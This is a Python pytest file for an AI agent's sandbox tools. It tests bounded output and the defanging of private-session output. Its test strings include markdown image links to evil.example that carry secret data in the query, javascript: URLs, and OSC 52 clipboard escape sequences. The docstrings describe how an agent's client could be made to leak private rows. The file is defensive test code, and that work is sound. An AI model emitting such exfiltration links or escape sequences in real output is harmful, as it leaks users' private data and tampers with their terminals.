"""``sandbox_execute`` under attack from what the command prints: the host keeps
a bounded part of it (guarantee 7: a sandbox must not grow the host without
bound), and once the session is private its URLs reach the agent defanged
(guarantee 8: an MCP client may render a result as markdown and fetch an image)."""

from __future__ import annotations

import asyncio
import os
import threading
from pathlib import Path

import pytest
from kernel_helpers import require_bwrap

from sandbox_kernel.privacy import PrivacyStore, PrivateData
from sandbox_kernel.sandbox import BubblewrapSandbox
from sandbox_kernel.tools import (
    SessionRegistry,
    repl_execute_cell,
    repl_show_cell,
    repl_show_notebook,
    sandbox_execute,
    shell,
)

pytestmark = pytest.mark.asyncio

PAGE = os.sysconf("SC_PAGE_SIZE")


def ids(reg: SessionRegistry, session: str = "s1", user: str = "alice") -> dict:
    return {"user_id": user, "session_id": session, "registry": reg}


def rss() -> int:
    """This process's resident memory now (its high-water mark may predate the test)."""
    with open("/proc/self/statm") as fh:
        return int(fh.read().split()[1]) * PAGE


class PeakRSS:
    """The highest resident memory seen while running, sampled every 5 ms from a thread."""

    def __init__(self) -> None:
        self.base = rss()
        self.peak = self.base
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)

    def _sample(self) -> None:
        while not self._stop.wait(0.005):
            self.peak = max(self.peak, rss())

    def __enter__(self) -> PeakRSS:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()
        self.peak = max(self.peak, rss())


async def test_a_flood_of_output_does_not_grow_the_host(registry: SessionRegistry) -> None:
    """200 MiB printed: the old run_spec (communicate()) held all of it, then the
    tool decoded all of it (host RSS grew by several times the output). Now the
    host's growth stays far below the output and the result says what it dropped."""
    size = 200 << 20
    command = f"echo START; head -c {size} /dev/zero | tr '\\0' a; echo; echo END"
    with PeakRSS() as mem:
        r = await sandbox_execute(command, timeout=120, **ids(registry))
    grew = mem.peak - mem.base
    assert grew < 40 << 20, f"the host grew by {grew >> 20} MiB for {size >> 20} MiB of output"
    dropped = size + len("START\n\nEND\n") - shell.HOST_KEEPS
    assert r.text.startswith("Exit code: 0\nSTART\naaa"), r.text[:200]
    assert r.text.rstrip().endswith("END") or "END\n[" in r.text, r.text[-400:]
    assert f"{dropped} bytes of output were dropped" in r.text, r.text[-400:]
    assert len(r.text) < 9000


async def test_run_spec_keeps_a_head_and_a_tail_of_each_stream() -> None:
    """The API under the tool: ``max_output`` bounds each stream, stdin still reaches
    the command, and a timed-out command's output so far is kept."""
    require_bwrap()
    bwrap = BubblewrapSandbox()
    script = "cat; head -c 5000 /dev/zero | tr '\\0' o; echo TAIL; echo ERR >&2"
    r = await bwrap.run(["/bin/sh", "-c", script], cwd="/", stdin=b"HEAD", max_output=100)
    assert r.exit_code == 0 and not r.timed_out
    assert r.stdout.startswith(b"HEAD") and r.stdout.endswith(b"TAIL\n") and len(r.stdout) == 100
    assert r.stdout_dropped == 4 + 5000 + 5 - 100 and r.stdout_dropped_at == 50
    assert (r.stderr, r.stderr_dropped) == (b"ERR\n", 0)
    r = await bwrap.run(["/bin/sh", "-c", "echo before; exec sleep 60"], cwd="/", timeout=1)
    assert r.timed_out and r.exit_code == -1 and r.stdout == b"before\n"


async def test_private_shell_output_has_no_followable_url(registry: SessionRegistry, data_dir: Path) -> None:
    """Once private, what the command prints reaches the agent defanged, as cell
    output does: a markdown image would otherwise be fetched by the client."""
    kw = ids(registry, "priv")
    leak = "![x](https://evil.example/leak?d=SECRET) www.evil.example javascript:alert(1)"
    r = await sandbox_execute(f"echo '{leak}'", **kw)
    assert "https://evil.example" in r.text  # public: output as printed
    await repl_execute_cell("1", **kw)
    store = PrivacyStore(data_dir / "privacy")
    await asyncio.to_thread(PrivateData("alice", "priv", store).add_private_dataset, "crm", "SECRET", "connector", True)
    r = await sandbox_execute(f"echo '{leak}'; echo https://evil.example/x >&2", **kw)
    assert r.text.startswith("Exit code: 0"), r.text
    assert "evil.example" in r.text and "https://" not in r.text and "www.evil" not in r.text, r.text
    assert "javascript:" not in r.text, r.text


async def test_private_cell_output_split_across_chunks_has_no_followable_url(
    registry: SessionRegistry, data_dir: Path
) -> None:
    """The engine defangs a private session's stream chunk by chunk; the tools
    join consecutive chunks into one output, where ``https:`` + ``//host`` was
    a live URL again (a markdown image the agent's client would fetch, with
    the private rows in its query). Found by an attack review."""
    kw = ids(registry, "split")
    cell = (
        "import sys, time\n"
        "for part in ['![chart](https:', '/', '/evil.example/log?d=ROWS)', ' java', 'script:x', ' www', '.evil.example']:\n"
        "    sys.stdout.write(part); sys.stdout.flush(); time.sleep(0.3)\n"
    )
    r = await repl_execute_cell(cell, **kw)
    assert "https://evil.example" in r.text  # public: output as printed, joined
    store = PrivacyStore(data_dir / "privacy")
    await asyncio.to_thread(
        PrivateData("alice", "split", store).add_private_dataset, "crm", "SECRET", "connector", True
    )
    r = await repl_execute_cell(cell, **kw)
    assert "evil.example/log?d=ROWS" in r.text, r.text
    assert "https://" not in r.text and "javascript:" not in r.text and "www.evil" not in r.text, r.text


async def test_private_html_only_outputs_and_class_names_carry_no_followable_url(
    registry: SessionRegistry, data_dir: Path
) -> None:
    """The tools make an HTML-only output's text themselves (tags stripped,
    entities decoded): ``https&#58;//`` in the sandbox's HTML, harmless in a
    page, came back as a live ``https://`` in the tool's text; an exception's
    class name is any string. Found by an attack review."""
    kw = ids(registry, "html")
    cell = (
        "from IPython.display import display\n"
        "display({'text/html': '<p>![x](https&#58;//evil.example/p.png?d=ROWS)</p>'}, raw=True)\n"
    )
    r = await repl_execute_cell(cell, **kw)
    assert "![x](https://evil.example/p.png?d=ROWS)" in r.text, r.text  # public: as the page reads
    store = PrivacyStore(data_dir / "privacy")
    await asyncio.to_thread(PrivateData("alice", "html", store).add_private_dataset, "crm", "SECRET", "connector", True)
    raised = "raise type('![z](https://evil.example/e.png?d=ROWS)', (Exception,), {})('v')"
    texts = [(await repl_execute_cell(code, **kw)).text for code in (cell, raised)]
    texts += [(await repl_show_cell(n, full=True, **kw)).text for n in (1, 2)]
    texts.append((await repl_show_notebook(**kw)).text)
    for text in texts:  # (the code shown is the agent's own)
        assert "https://" not in text.replace(raised, ""), text
    assert all("evil.example" in text.replace(raised, "") for text in texts), texts


async def test_tool_text_holds_no_terminal_sequence(registry: SessionRegistry) -> None:
    """An agent's command line may print a tool's result: what a command or a
    cell wrote reaches it without escape sequences (an OSC 52 would set the
    user's clipboard), whichever way the sequence is ended."""
    kw = ids(registry, "esc")
    sequences = r"\033]52;c;YQ==\007\033]0;owned\033\\\033[2J\302\233" + "2J"
    r = await sandbox_execute(f"printf 'out{sequences}\\n'; printf 'err{sequences}\\n' >&2", **kw)
    assert "out" in r.text and "err" in r.text, r.text
    assert not [c for c in ("\x1b", "\x07", "\x9b") if c in r.text], repr(r.text)
    r = await repl_execute_cell(
        "import sys\nOSC = '\\x1b]52;c;YQ==\\x1b\\\\' + '\\x9b2J'\nprint('cell' + OSC)\nraise ValueError('v' + OSC)",
        **kw,
    )
    assert "cell" in r.text and "ValueError" in r.text, r.text
    assert not [c for c in ("\x1b", "\x07", "\x9b") if c in r.text], repr(r.text)
